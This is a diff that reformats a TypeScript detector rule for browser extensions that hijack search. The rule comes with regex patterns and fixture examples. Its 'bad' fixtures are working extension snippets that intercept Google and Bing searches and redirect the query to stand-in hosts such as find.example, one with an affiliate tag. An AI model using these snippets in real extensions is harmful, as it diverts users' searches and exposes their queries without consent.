@@ -1,4 +1,13 @@
-import { apiPath, callsOf, Op, pattern, propertyOf, scriptsOf, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  apiPath,
+  callsOf,
+  Op,
+  pattern,
+  propertyOf,
+  scriptsOf,
+  writesOf,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { manifestOf } from '../../facts/extension/roles.ts';
 import type { Facts } from '../../facts.ts';
 import { flowsOf } from '../../flows/flowsOf.ts';
@@ -10,7 +19,8 @@ import { tagOf } from './codeRuns.ts';
 import { originPaths, originsOf } from './origins.ts';
 import { callsWithin, few, functionAt, usageOf } from './usage.ts';
 
-const ENGINE = /(^|[./*])(google\.(com|\*|[a-z]{2,3})|bing\.com|search\.yahoo\.com|yahoo\.com|duckduckgo\.com|baidu\.com|yandex\.(ru|com))(\/|$|\\|:)/i;
+const ENGINE =
+  /(^|[./*])(google\.(com|\*|[a-z]{2,3})|bing\.com|search\.yahoo\.com|yahoo\.com|duckduckgo\.com|baidu\.com|yandex\.(ru|com))(\/|$|\\|:)/i;
 /** A rule of the browser puts what was searched for behind such a parameter. */
 const QUERY_GROUP = /[?&](q|query|p|s|search|keyword|text|k|searchTerms|term)=\\\d/i;
 const QUERY = /[?&/](q|query|p|s|search|keyword|text|k|searchTerms|term)=\*?/i;
@@ -23,7 +33,10 @@ export const searchHijack = defineRule({
   category: 'code',
   applies: 'extension',
   cwe: 'CWE-506',
-  references: ['https://attack.mitre.org/techniques/T1176/', 'https://extensionworkshop.com/documentation/publish/add-on-policies/'],
+  references: [
+    'https://attack.mitre.org/techniques/T1176/',
+    'https://extensionworkshop.com/documentation/publish/add-on-policies/',
+  ],
   why: 'People asked one search engine and get the answers of another, which earns money with each search and sees what is searched for.',
   remedy: 'Offer a search engine by the manifest’s settings override, which the browser asks about.',
   *check(facts) {
@@ -33,22 +46,66 @@ export const searchHijack = defineRule({
   },
   examples: {
     bad: [
-      backgroundExample('chrome.tabs.onUpdated.addListener((id, info) => { if (info.url && info.url.includes("google.com/search")) { const q = new URL(info.url).searchParams.get("q"); chrome.tabs.update(id, { url: "https://find.example/results?q=" + q }); } });'),
-      backgroundExample('chrome.webRequest.onBeforeRequest.addListener((d) => { const m = /[?&]q=([^&]+)/.exec(d.url); return { redirectUrl: "https://find.example/s?q=" + m[1] + "&aff=7" }; }, { urls: ["*://*.bing.com/search*"] }, ["blocking"]);'),
-      contentExample('const q = new URLSearchParams(location.search).get("q"); if (q) location.replace("https://quick.example/r?q=" + encodeURIComponent(q));', { content_scripts: [{ matches: ['*://www.google.com/search*'], js: ['content.js'] }] }),
-      backgroundExample('chrome.webNavigation.onBeforeNavigate.addListener((d) => { const u = new URL(d.url); const p = { "www.google.com": "q", "www.bing.com": "q" }[u.hostname]; if (p) chrome.tabs.update(d.tabId, { url: "https://go.example/find?term=" + encodeURIComponent(u.searchParams.get(p)) }); });'),
-      backgroundExample('const rules = ["google", "bing"].map((name, i) => ({ id: i + 1, condition: { regexFilter: `^https://www\\\\.${name}\\\\.com/search\\\\?q=([^&]+)`, resourceTypes: ["main_frame"] }, action: { type: "redirect", redirect: { regexSubstitution: "https://find.example/web?q=\\\\1" } } })); chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules });'),
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js", "type": "module"}}', 'background.js': 'import { Router } from "./router.js"; const router = new Router(); router.on(/google\\.[^/]+\\/search/, "q").on(/bing\\.com\\/search/, "q"); chrome.webNavigation.onBeforeNavigate.addListener(({ tabId, url }) => { const term = router.match(url); if (term) chrome.tabs.update(tabId, { url: router.target(term) }); });', 'router.js': 'export class Router { #list = []; on(re, key) { this.#list.push({ re, key }); return this; } match(url) { const u = new URL(url); for (const { re, key } of this.#list) if (re.test(url)) return u.searchParams.get(key); } target(term) { const t = new URL("https://portal.example/results.aspx?gd=1"); t.searchParams.set("searchtext", term); return t.href; } }' } },
-      contentExample('const form = document.querySelector("textarea[name=q]").form; form.action = "https://plus.example/results"; form.method = "get";', { content_scripts: [{ matches: ['https://www.google.com/*'], js: ['content.js'] }] }),
+      backgroundExample(
+        'chrome.tabs.onUpdated.addListener((id, info) => { if (info.url && info.url.includes("google.com/search")) { const q = new URL(info.url).searchParams.get("q"); chrome.tabs.update(id, { url: "https://find.example/results?q=" + q }); } });',
+      ),
+      backgroundExample(
+        'chrome.webRequest.onBeforeRequest.addListener((d) => { const m = /[?&]q=([^&]+)/.exec(d.url); return { redirectUrl: "https://find.example/s?q=" + m[1] + "&aff=7" }; }, { urls: ["*://*.bing.com/search*"] }, ["blocking"]);',
+      ),
+      contentExample(
+        'const q = new URLSearchParams(location.search).get("q"); if (q) location.replace("https://quick.example/r?q=" + encodeURIComponent(q));',
+        { content_scripts: [{ matches: ['*://www.google.com/search*'], js: ['content.js'] }] },
+      ),
+      backgroundExample(
+        'chrome.webNavigation.onBeforeNavigate.addListener((d) => { const u = new URL(d.url); const p = { "www.google.com": "q", "www.bing.com": "q" }[u.hostname]; if (p) chrome.tabs.update(d.tabId, { url: "https://go.example/find?term=" + encodeURIComponent(u.searchParams.get(p)) }); });',
+      ),
+      backgroundExample(
+        'const rules = ["google", "bing"].map((name, i) => ({ id: i + 1, condition: { regexFilter: `^https://www\\\\.${name}\\\\.com/search\\\\?q=([^&]+)`, resourceTypes: ["main_frame"] }, action: { type: "redirect", redirect: { regexSubstitution: "https://find.example/web?q=\\\\1" } } })); chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules });',
+      ),
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js", "type": "module"}}',
+          'background.js':
+            'import { Router } from "./router.js"; const router = new Router(); router.on(/google\\.[^/]+\\/search/, "q").on(/bing\\.com\\/search/, "q"); chrome.webNavigation.onBeforeNavigate.addListener(({ tabId, url }) => { const term = router.match(url); if (term) chrome.tabs.update(tabId, { url: router.target(term) }); });',
+          'router.js':
+            'export class Router { #list = []; on(re, key) { this.#list.push({ re, key }); return this; } match(url) { const u = new URL(url); for (const { re, key } of this.#list) if (re.test(url)) return u.searchParams.get(key); } target(term) { const t = new URL("https://portal.example/results.aspx?gd=1"); t.searchParams.set("searchtext", term); return t.href; } }',
+        },
+      },
+      contentExample(
+        'const form = document.querySelector("textarea[name=q]").form; form.action = "https://plus.example/results"; form.method = "get";',
+        { content_scripts: [{ matches: ['https://www.google.com/*'], js: ['content.js'] }] },
+      ),
     ],
     good: [
-      contentExample('const form = document.createElement("form"); form.action = "https://tool.example/feedback"; panel.append(form);', { content_scripts: [{ matches: ['https://www.google.com/*'], js: ['content.js'] }] }),
-      backgroundExample('chrome.declarativeNetRequest.updateDynamicRules({ removeRuleIds: [1], addRules: [{ id: 1, condition: { regexFilter: "^https://www\\\\.google\\\\.com/amp/s/(.*)", resourceTypes: ["main_frame"] }, action: { type: "redirect", redirect: { regexSubstitution: "https://\\\\1" } } }] });'),
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}}', 'background.js': 'const providers = ["https://www.google.com/search?q=", "https://www.bing.com/search?q=", "https://find.example/search?q="]; chrome.tabs.onUpdated.addListener((id, info) => { if (info.url) chrome.tabs.update(id, { url: info.url.replace("http:", "https:") }); });' } },
-      contentExample('const q = new URLSearchParams(location.search).get("q"); link.onclick = () => { open("https://quick.example/r?q=" + q); };', { content_scripts: [{ matches: ['*://www.google.com/search*'], js: ['content.js'] }] }),
-      backgroundExample('chrome.omnibox.onInputEntered.addListener((text) => chrome.tabs.create({ url: "https://www.google.com/search?q=" + encodeURIComponent(text) }));'),
-      backgroundExample('chrome.contextMenus.onClicked.addListener((i) => chrome.tabs.create({ url: "https://find.example/?q=" + i.selectionText })); const engines = ["google.com/search"];'),
-      backgroundExample('chrome.tabs.onUpdated.addListener((id, info) => { if (info.url === "https://www.google.com/") show(id); });'),
+      contentExample(
+        'const form = document.createElement("form"); form.action = "https://tool.example/feedback"; panel.append(form);',
+        { content_scripts: [{ matches: ['https://www.google.com/*'], js: ['content.js'] }] },
+      ),
+      backgroundExample(
+        'chrome.declarativeNetRequest.updateDynamicRules({ removeRuleIds: [1], addRules: [{ id: 1, condition: { regexFilter: "^https://www\\\\.google\\\\.com/amp/s/(.*)", resourceTypes: ["main_frame"] }, action: { type: "redirect", redirect: { regexSubstitution: "https://\\\\1" } } }] });',
+      ),
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}}',
+          'background.js':
+            'const providers = ["https://www.google.com/search?q=", "https://www.bing.com/search?q=", "https://find.example/search?q="]; chrome.tabs.onUpdated.addListener((id, info) => { if (info.url) chrome.tabs.update(id, { url: info.url.replace("http:", "https:") }); });',
+        },
+      },
+      contentExample(
+        'const q = new URLSearchParams(location.search).get("q"); link.onclick = () => { open("https://quick.example/r?q=" + q); };',
+        { content_scripts: [{ matches: ['*://www.google.com/search*'], js: ['content.js'] }] },
+      ),
+      backgroundExample(
+        'chrome.omnibox.onInputEntered.addListener((text) => chrome.tabs.create({ url: "https://www.google.com/search?q=" + encodeURIComponent(text) }));',
+      ),
+      backgroundExample(
+        'chrome.contextMenus.onClicked.addListener((i) => chrome.tabs.create({ url: "https://find.example/?q=" + i.selectionText })); const engines = ["google.com/search"];',
+      ),
+      backgroundExample(
+        'chrome.tabs.onUpdated.addListener((id, info) => { if (info.url === "https://www.google.com/") show(id); });',
+      ),
     ],
   },
 });
@@ -57,38 +114,76 @@ export const searchHijack = defineRule({
 const written = checkScripts(function* ({ script, file, facts, hit }) {
   const engines = searchPages(facts, file.path);
   if (engines !== undefined) {
-    const left = [...callsOf(script, 'location.replace', 'location.assign').map((call) => call.args[0] ?? 0), ...writesOf(script, 'href', 'location').filter((write) => write.property === 'location' || /(^|\.)location$/.test(apiPath(script, write.object) ?? '')).map((write) => write.value)];
+    const left = [
+      ...callsOf(script, 'location.replace', 'location.assign').map((call) => call.args[0] ?? 0),
+      ...writesOf(script, 'href', 'location')
+        .filter((write) => write.property === 'location' || /(^|\.)location$/.test(apiPath(script, write.object) ?? ''))
+        .map((write) => write.value),
+    ];
     for (const write of writesOf(script, 'action')) {
       const to = pattern(script, write.value);
       const host = hostOf(to);
-      if (host !== undefined && !ENGINE.test(`/${host}/`) && tagOf(script, write.object) === undefined) yield hit(write.value, { message: `It runs on ${engines}, and forms of the page lead to ${host}.` });
+      if (host !== undefined && !ENGINE.test(`/${host}/`) && tagOf(script, write.object) === undefined)
+        yield hit(write.value, { message: `It runs on ${engines}, and forms of the page lead to ${host}.` });
     }
-    for (const value of left) if (isElsewhere(pattern(script, value)) && [...originPaths(script, value)].some((path) => /(^|\.)location(\.(search|href|hash))?$/.test(path))) yield hit(value, { message: `It runs on ${engines} and leads on to ${hostOf(pattern(script, value)) ?? ''}.` });
+    for (const value of left)
+      if (
+        isElsewhere(pattern(script, value)) &&
+        [...originPaths(script, value)].some((path) => /(^|\.)location(\.(search|href|hash))?$/.test(path))
+      )
+        yield hit(value, { message: `It runs on ${engines} and leads on to ${hostOf(pattern(script, value)) ?? ''}.` });
   }
-  if (callsOf(script, 'chrome.declarativeNetRequest.updateDynamicRules', 'chrome.declarativeNetRequest.updateSessionRules').length > 0 && mentions(script, /google|bing|yahoo|duckduckgo|baidu|yandex/i)) {
+  if (
+    callsOf(
+      script,
+      'chrome.declarativeNetRequest.updateDynamicRules',
+      'chrome.declarativeNetRequest.updateSessionRules',
+    ).length > 0 &&
+    mentions(script, /google|bing|yahoo|duckduckgo|baidu|yandex/i)
+  ) {
     for (let value = 1, looked = 0; value < script.op.length && looked < 2000; value++) {
       if (script.op[value] !== Op.object) continue;
       looked++;
       const to = pattern(script, propertyOf(script, value, 'regexSubstitution'));
-      if (QUERY_GROUP.test(to) && isElsewhere(to)) yield hit(value, { message: `Rules lead searches to ${hostOf(to) ?? to}.` });
+      if (QUERY_GROUP.test(to) && isElsewhere(to))
+        yield hit(value, { message: `Rules lead searches to ${hostOf(to) ?? to}.` });
     }
   }
-  const named = textsOf(script).find(({ text }) => ENGINE.test(text) && text.length < 200)?.text ?? script.strings.find((text) => text.length < 60 && ENGINE.test(text) && text.includes('.'));
+  const named =
+    textsOf(script).find(({ text }) => ENGINE.test(text) && text.length < 200)?.text ??
+    script.strings.find((text) => text.length < 60 && ENGINE.test(text) && text.includes('.'));
   if (named === undefined) return;
   const engine = { text: named };
   for (const call of few(callsOf(script, 'chrome.tabs.update', 'chrome.tabs.create'))) {
-    const to = pattern(script, propertyOf(script, call.args[1] ?? call.args[0] ?? 0, 'url') || propertyOf(script, call.args[0] ?? 0, 'url'));
-    if (isElsewhere(to) && reactsToTabs(script, call.value)) yield hit(call.value, { message: `Searches are recognised (${engine.text.slice(0, 60)}) and led to ${hostOf(to) ?? to}.` });
+    const to = pattern(
+      script,
+      propertyOf(script, call.args[1] ?? call.args[0] ?? 0, 'url') || propertyOf(script, call.args[0] ?? 0, 'url'),
+    );
+    if (isElsewhere(to) && reactsToTabs(script, call.value))
+      yield hit(call.value, {
+        message: `Searches are recognised (${engine.text.slice(0, 60)}) and led to ${hostOf(to) ?? to}.`,
+      });
   }
   for (const call of callsOf(script, 'chrome.webRequest.onBeforeRequest.addListener')) {
     for (const inner of redirects(script, call.args[0] ?? 0)) {
-      if (isElsewhere(inner.to)) yield hit(inner.value, { message: `Searches are recognised (${engine.text.slice(0, 60)}) and led to ${hostOf(inner.to) ?? inner.to}.` });
+      if (isElsewhere(inner.to))
+        yield hit(inner.value, {
+          message: `Searches are recognised (${engine.text.slice(0, 60)}) and led to ${hostOf(inner.to) ?? inner.to}.`,
+        });
     }
   }
 });
 
 /** Two or more of these in one package: it tells searches of several services apart. */
-const SERVICES = [/google\b.{0,14}(search|\/s\?)|google\\?\.\[|\bgoogle\\?\.(com)?/i, /bing\\?\.com/i, /search\\?\.yahoo|yahoo\\?\.com/i, /duckduckgo\\?\.com/i, /baidu\\?\.com/i, /yandex\\?\./i, /ecosia\\?\./i];
+const SERVICES = [
+  /google\b.{0,14}(search|\/s\?)|google\\?\.\[|\bgoogle\\?\.(com)?/i,
+  /bing\\?\.com/i,
+  /search\\?\.yahoo|yahoo\\?\.com/i,
+  /duckduckgo\\?\.com/i,
+  /baidu\\?\.com/i,
+  /yandex\\?\./i,
+  /ecosia\\?\./i,
+];
 /** An address of a page of answers, with or without its query. */
 const ANSWERS = /^(https?:\/\/[^/*\s]+\/)?[^?#\s:]*(search|results?|find|web|query|\bs\b)[^#\s]*[?&]\w+=/i;
 /** Where pages of search services keep what was searched for. */
@@ -100,18 +195,35 @@ function* followed(facts: Facts, told: readonly Hit[]): Iterable<Hit> {
   if (!flows.some(({ sink }) => sink.kind === 'led-address')) return;
   const scripts = [...scriptsOf(facts)].filter(({ file }) => !file.traits.vendored);
   // One script, from which the address comes or in which it is opened, tells several services apart.
-  const telling = new Set(scripts.filter(({ script }) => SERVICES.filter((one) => mentions(script, one)).length >= 2).map(({ file }) => file.path));
+  const telling = new Set(
+    scripts
+      .filter(({ script }) => SERVICES.filter((one) => mentions(script, one)).length >= 2)
+      .map(({ file }) => file.path),
+  );
   if (telling.size === 0) return;
   if (!scripts.some(({ script }) => textsOf(script).some(({ text }) => text.length < 300 && isAnswers(text)))) return;
-  if (!scripts.some(({ script }) => [...textsOf(script), ...expressionsOf(script)].some(({ text }) => ASKED.test(text)))) return;
+  if (
+    !scripts.some(({ script }) => [...textsOf(script), ...expressionsOf(script)].some(({ text }) => ASKED.test(text)))
+  )
+    return;
   const hits = hitsOfFlows(flows, ({ source, sink, unit }) => {
     if (!telling.has(unit.file.path) && !telling.has(source.unit.file.path)) return undefined;
-    if (sink.kind !== 'led-address' || (source.kind !== 'tabs' && source.kind !== 'navigation') || !source.label.startsWith('address')) return undefined;
+    if (
+      sink.kind !== 'led-address' ||
+      (source.kind !== 'tabs' && source.kind !== 'navigation') ||
+      !source.label.startsWith('address')
+    )
+      return undefined;
     const host = sink.to === undefined ? undefined : hostOf(sink.to);
     if (host !== undefined && ENGINE.test(`/${host}/`)) return undefined;
-    return { severity: 'high', confidence: host === undefined ? 'low' : 'medium', message: `What is searched for becomes part of an address${host === undefined ? '' : ` of ${host}`} that is opened instead.` };
+    return {
+      severity: 'high',
+      confidence: host === undefined ? 'low' : 'medium',
+      message: `What is searched for becomes part of an address${host === undefined ? '' : ` of ${host}`} that is opened instead.`,
+    };
   });
-  for (const one of hits) if (!told.some((other) => other.place.path === one.place.path && other.place.line === one.place.line)) yield one;
+  for (const one of hits)
+    if (!told.some((other) => other.place.path === one.place.path && other.place.line === one.place.line)) yield one;
 }
 
 /** Whether a text is the address of a page of answers of somebody who is no well-known search service. */
@@ -123,7 +235,14 @@ function isElsewhere(to: string): boolean {
   return /^https?:\/\//i.test(to) && QUERY.test(to) && !ENGINE.test(hostOf(to) === undefined ? '' : `/${hostOf(to)}/`);
 }
 
-const EVENTS = ['chrome.tabs.onUpdated.addListener', 'chrome.tabs.onCreated.addListener', 'chrome.webNavigation.onBeforeNavigate.addListener', 'chrome.webNavigation.onCommitted.addListener', 'chrome.webRequest.onBeforeRequest.addListener', 'chrome.tabs.onActivated.addListener'];
+const EVENTS = [
+  'chrome.tabs.onUpdated.addListener',
+  'chrome.tabs.onCreated.addListener',
+  'chrome.webNavigation.onBeforeNavigate.addListener',
+  'chrome.webNavigation.onCommitted.addListener',
+  'chrome.webRequest.onBeforeRequest.addListener',
+  'chrome.tabs.onActivated.addListener',
+];
 
 /**
  * Whether a call is made because a tab went somewhere. With `marks`, only where one of these values stands in the same
@@ -151,7 +270,12 @@ function isWithin(script: ScriptFacts, inner: number, outer: number): boolean {
 
 /** Whether what one function calls leads to another. */
 function calledFrom(script: ScriptFacts, from: number, to: number): boolean {
-  return to >= 0 && (usageOf(script).callers.get(to) ?? []).some((call) => isWithin(script, functionAt(script, script.pos[call] as number), from));
+  return (
+    to >= 0 &&
+    (usageOf(script).callers.get(to) ?? []).some((call) =>
+      isWithin(script, functionAt(script, script.pos[call] as number), from),
+    )
+  );
 }
 
 function callsOfListener(script: ScriptFacts, listener: number): Set<number> {
@@ -174,7 +298,10 @@ function redirects(script: ScriptFacts, listener: number): { value: number; to: 
 
 /** The search engine on whose pages alone a content script runs. */
 function searchPages(facts: Facts, path: string): string | undefined {
-  const scripts = manifestOf(facts)?.manifest.contentScripts.filter((one) => one.js.some((file) => file === path || file === `/${path}` || file === `./${path}`)) ?? [];
+  const scripts =
+    manifestOf(facts)?.manifest.contentScripts.filter((one) =>
+      one.js.some((file) => file === path || file === `/${path}` || file === `./${path}`),
+    ) ?? [];
   const matches = scripts.flatMap((one) => one.matches);
   const found = matches.find((match) => ENGINE.test(match.replace(/^[^/]*\/\//, '/').replace('*.', '')));
   return found !== undefined && matches.length <= 20 && !matches.includes('<all_urls>') ? found : undefined;
